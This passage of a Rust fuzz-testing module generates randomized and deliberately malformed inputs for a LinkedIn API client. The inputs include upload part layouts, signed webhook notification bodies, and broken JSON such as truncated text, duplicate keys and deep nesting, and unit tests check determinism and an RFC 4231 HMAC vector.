    for key in ["altText", "title"] {
        if rng.percent(30) {
            source.insert(key.into(), Value::String(string(rng)));
        }
    }
    Value::Object(source)
}

/// Video upload instructions for a file of `total` bytes: contiguous parts of LinkedIn's
/// upload URLs, now and then with a gap, an overlap or a foreign URL.
pub fn upload_instructions(rng: &mut Rng, total: u64) -> Value {
    let parts = rng.between(1, 4);
    let size = (total / parts).max(1);
    let mut out = Vec::new();
    let mut first = 0;
    for n in 1..=parts {
        let last = if n == parts {
            total.saturating_sub(1)
        } else {
            first + size - 1
        };
        let (first_byte, last_byte) = match rng.weighted(&[90, 4, 3, 3]) {
            0 => (json!(first), json!(last)),
            1 => (json!(first + 1), json!(last)),
            2 => (json!(first), json!(last + 1)),
            _ => (json!(-1), json!("x")),
        };
        let part_url = if rng.percent(90) {
            format!(
                "https://www.linkedin.com/dms-uploads/sp/v2/C5505AQH/uploaded-video/0?uploadId=f1%253D&partNumber={n}"
            )
        } else {
            url(rng)
        };
        out.push(json!({"uploadUrl": part_url, "firstByte": first_byte, "lastByte": last_byte}));
        first = last + 1;
    }
    Value::Array(out)
}

/// A Lead Sync notification body (the text of a webhook request).
fn notification_body(rng: &mut Rng) -> String {
    let one = |rng: &mut Rng| {
        let action = rng.pick(&["CREATED", "DELETED", "UPDATED", "created", "", "X"]);
        let mut n = json!({
            "type": rng.pick(&["LEAD_ACTION", "OTHER", ""]),
            "leadGenFormResponse": urn(rng),
            "leadAction": action,
            "occurredAt": 1_686_182_358_881_u64,
        });
        if rng.percent(50) {
            n["leadGenForm"] = Value::String(urn(rng));
        }
        if rng.percent(30) {
            n["owner"] = json!({"sponsoredAccount": urn(rng)});
        }
        n
    };
    match rng.weighted(&[50, 30, 20]) {
        0 => one(rng).to_string(),
        1 => Value::Array((0..rng.between(0, 3)).map(|_| one(rng)).collect()).to_string(),
        _ => string(rng),
    }
}

// ---------------------------------------------------------------------------------------------
// Making some inputs coherent, so that cases get past the first check

/// Two things random values almost never get right, done half the time: a webhook body signed
/// with the client secret (so parse-lead-notification parses it, and fetches leads), and video
/// upload instructions that cover the `data` given exactly (so the parts are uploaded).
fn coherent(rng: &mut Rng, input: &mut Map<String, Value>, secret: Option<&str>) {
    if let (Some(Value::String(body)), Some(Value::Object(_))) =
        (input.get("body"), input.get("headers"))
        && rng.percent(60)
    {
        let key = if rng.percent(90) {
            secret.unwrap_or("")
        } else {
            "wrong"
        };
        let mut signature = hmac_hex(key, &format!("hmacsha256={body}"));
        if rng.percent(20) {
            signature = format!("hmacsha256={signature}");
        }
        let name = rng.pick(&["X-LI-Signature", "x-li-signature", "X-Li-Signature"]);
        if let Some(Value::Object(headers)) = input.get_mut("headers") {
            headers.insert(name.to_string(), Value::String(signature));
        }
    }
    if let (Some(Value::Array(_)), Some(Value::String(data))) =
        (input.get("uploadInstructions"), input.get("data"))
        && let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(data)
        && rng.percent(50)
    {
        let instructions = upload_instructions(rng, bytes.len() as u64);
        input.insert("uploadInstructions".into(), instructions);
    }
}

/// Hex HMAC-SHA256 of `message` keyed by `key` (LinkedIn's webhook signature).
fn hmac_hex(key: &str, message: &str) -> String {
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, key.as_bytes());
    ring::hmac::sign(&key, message.as_bytes())
        .as_ref()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Input that is not a JSON object

/// Text instead of a JSON object: truncated, not JSON, an array, duplicate keys, deep nesting.
fn raw_text(rng: &mut Rng, input: &Map<String, Value>) -> String {
    let json = Value::Object(input.clone()).to_string();
    match rng.below(9) {
        0 => {
            // Truncated at a character boundary.
            let cut = rng.index(json.len().max(1));
            let cut = (0..=cut)
                .rev()
                .find(|i| json.is_char_boundary(*i))
                .unwrap_or(0);
            json[..cut].to_string()
        }
        1 => random_text(rng, 200),
        2 => format!("[{json}]"),
        3 => duplicate_key(rng, input, &json),
        4 => deep_nesting(rng),
        5 => rng
            .pick(&[
                "", " ", "null", "42", "\"text\"", "true", "[]", "{}", "\n\t",
            ])
            .to_string(),
        6 => format!("\u{feff}{json}"),
        7 => format!("{json} {json}"),
        _ => rng
            .pick(&[
                "{\"a\":1,}",
                "{'a':1}",
                "{\"a\":NaN}",
                "{\"a\":1}//c",
                "{\"a\":\"\\ud800\"}",
                "{\"a\":\"\\u0000\"}",
                "{\"a\":1e999999}",
                "{\"a\":-0}",
                "{\"text\":\"\\uDBFF\\uDFFF\"}",
                "{\"path\":\"/v2/me\",\"path\":\"/v2/x\"}",
                "{\"media\":[{\"id\":\"a\",\"id\":\"b\"}]}",
                "{\"a\":{\"b\":1,\"b\":2}}",
            ])
            .to_string(),
    }
}

/// The input with one of its keys given twice (the second value differs).
fn duplicate_key(rng: &mut Rng, input: &Map<String, Value>, json: &str) -> String {
    let keys: Vec<&String> = input.keys().collect();
    let key = if keys.is_empty() {
        "path".to_string()
    } else {
        rng.pick(&keys).to_string()
    };
    let pair = format!(
        "{}:{}",
        Value::String(key),
        Value::String(rng.pick(API_PATHS).to_string())
    );
    match json.strip_prefix('{') {
        Some("}") | None => format!("{{{pair},{pair}}}"),
        Some(rest) => format!("{{{pair},{rest}"),
    }
}

fn deep_nesting(rng: &mut Rng) -> String {
    let depth = [64, 127, 128, 129, 1000, 100_000][rng.weighted(&[4, 4, 4, 4, 4, 1])];
    if rng.percent(50) {
        format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
    } else {
        format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn catalog() -> Catalog {
        Catalog::from_json(&json!({"commands": [
            {"name": "create-post", "params": [
                {"name": "author", "type": "string", "required": true, "enum": [], "example": "urn:li:person:1"},
                {"name": "visibility", "type": "string", "required": false, "enum": ["PUBLIC"], "example": null}
            ]},
            {"name": "parse-lead-notification", "params": [
                {"name": "headers", "type": "object", "required": true, "enum": [], "example": {}},
                {"name": "body", "type": "string", "required": true, "enum": [], "example": "{}"}
            ]}
        ]}))
        .unwrap()
    }

    #[test]
    fn a_case_is_a_function_of_its_seed() {
        let catalog = catalog();
        for seed in 0..200 {
            let (a, b) = (case(seed, &catalog), case(seed, &catalog));
            assert_eq!((&a.command, &a.input), (&b.command, &b.input));
            assert_eq!(a.config.settings, b.config.settings);
        }
    }

    #[test]
    fn most_inputs_are_objects_of_the_commands_parameters() {
        let catalog = catalog();
        let mut objects = 0;
        let mut named = 0;
        for seed in 0..1000 {
            let case = case(seed, &catalog);
            if catalog.command(&case.command).is_some() {
                named += 1;
            }
            if let Ok(Value::Object(_)) = serde_json::from_str::<Value>(&case.input) {
                objects += 1;
            }
        }
        assert!(objects > 800, "{objects}");
        assert!(named > 800 && named < 950, "{named}");
    }

    #[test]
    fn webhook_bodies_are_signed_with_the_secret_often() {
        let catalog = catalog();
        let signed = (0..1000)
            .map(|seed| case(seed, &catalog))
            .filter(|case| {
                let Ok(Value::Object(input)) = serde_json::from_str::<Value>(&case.input) else {
                    return false;
                };
                let (Some(Value::String(body)), Some(Value::Object(headers))) =
                    (input.get("body"), input.get("headers"))
                else {
                    return false;
                };
                let want = hmac_hex(CLIENT_SECRET, &format!("hmacsha256={body}"));
                headers
                    .values()
                    .any(|v| v.as_str().is_some_and(|s| s.ends_with(&want)))
            })
            .count();
        assert!(signed > 50, "{signed}");
    }

    #[test]
    fn hmac_matches_a_known_vector() {
        // RFC 4231 test case 2.
        assert_eq!(
            hmac_hex("Jefe", "what do ya want for nothing?"),
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
    }
}
